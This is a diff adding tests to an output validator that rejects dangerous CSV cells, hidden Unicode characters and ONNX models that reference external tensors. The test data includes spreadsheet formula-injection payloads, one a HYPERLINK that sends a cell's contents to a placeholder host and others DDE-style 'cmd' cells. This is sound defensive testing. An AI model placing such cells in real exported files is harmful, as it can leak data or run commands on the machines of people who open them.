@@ -100,6 +100,24 @@ describe('csv', () => {
       expect(() => checkCsv('t.csv', bytes(value))).toThrow(code('output_invalid'));
     expect(() => checkCsv('t.csv', new Uint8Array([0x61, 0x0a, 0xff]))).toThrow(code('output_invalid'));
   });
+  test.each(['=HYPERLINK("http://a.example/?"&A1)', '@SUM(A1)', '+cmd|x', '-2+cmd|x', '\t=1', ' =1'])(
+    'a cell that a spreadsheet would run is refused: %j',
+    (cell) => {
+      const table = bytes(`a\n"${cell.replaceAll('"', '""')}"\n`);
+      expect(() => checkCsv('t.csv', table)).toThrow(code('output_invalid'));
+    },
+  );
+  test('signed numbers leave as they are', () => {
+    expect(text(checkCsv('t.csv', bytes('a,b\n-1.5,+2e-3\n-,-inf\n')))).toBe(
+      'a,b\r\n-1.5,+2e-3\r\n-,-inf\r\n',
+    );
+  });
+  test.each(['\u200b', '\u2066', '\u00ad', '\u{e0041}', '\u0085'])(
+    'an invisible %j in a cell is refused',
+    (hidden) => {
+      expect(() => checkCsv('t.csv', bytes(`a\nx${hidden}y\n`))).toThrow(code('output_invalid'));
+    },
+  );
   test('more rows than declared are output_too_large', () => {
     expect(() => checkCsv('t.csv', bytes('a\n1\n2\n3\n'), 2)).toThrow(code('output_too_large'));
     expect(text(checkCsv('t.csv', bytes('a\n1\n2\n'), 2))).toBe('a\r\n1\r\n2\r\n');
@@ -110,7 +128,17 @@ describe('text', () => {
   test('plain text leaves as it is', () => {
     expect(text(checkText('log.txt', bytes('first\tline\r\nsecond é\n')))).toBe('first\tline\nsecond é\n');
   });
-  test.each(['\u0000', '\u001b[31m', '\u200b', '\ufeffx'])('%j is refused', (value) => {
+  test.each([
+    '\u0000',
+    '\u001b[31m',
+    '\u200b',
+    '\ufeffx',
+    'a\u2066b\u2069',
+    'a\u061cb',
+    'a\u00adb',
+    'a\u2028b',
+    'a\u{e0041}b',
+  ])('%j is refused', (value) => {
     expect(() => checkText('log.txt', bytes(value))).toThrow(code('output_invalid'));
   });
 });
@@ -131,6 +159,11 @@ describe('onnx', () => {
     expect(() => checkOnnx('m.onnx', modelOf(outside))).toThrow(code('output_invalid'));
     const nested = field(1, field(5, field(6, outside)));
     expect(() => checkOnnx('m.onnx', modelOf(nested))).toThrow(code('output_invalid'));
+  });
+  test('a tensor outside of the model is refused where a function has it as the default of an attribute', () => {
+    const outside = field(5, new Uint8Array([0x70, 1]));
+    const body = new Uint8Array([0xca, 0x01, outside.byteLength + 2, ...field(11, outside)]);
+    expect(() => checkOnnx('m.onnx', join_(modelOf(new Uint8Array()), body))).toThrow(code('output_invalid'));
   });
   test('what is cut off, or no model at all, is refused', () => {
     for (const value of [
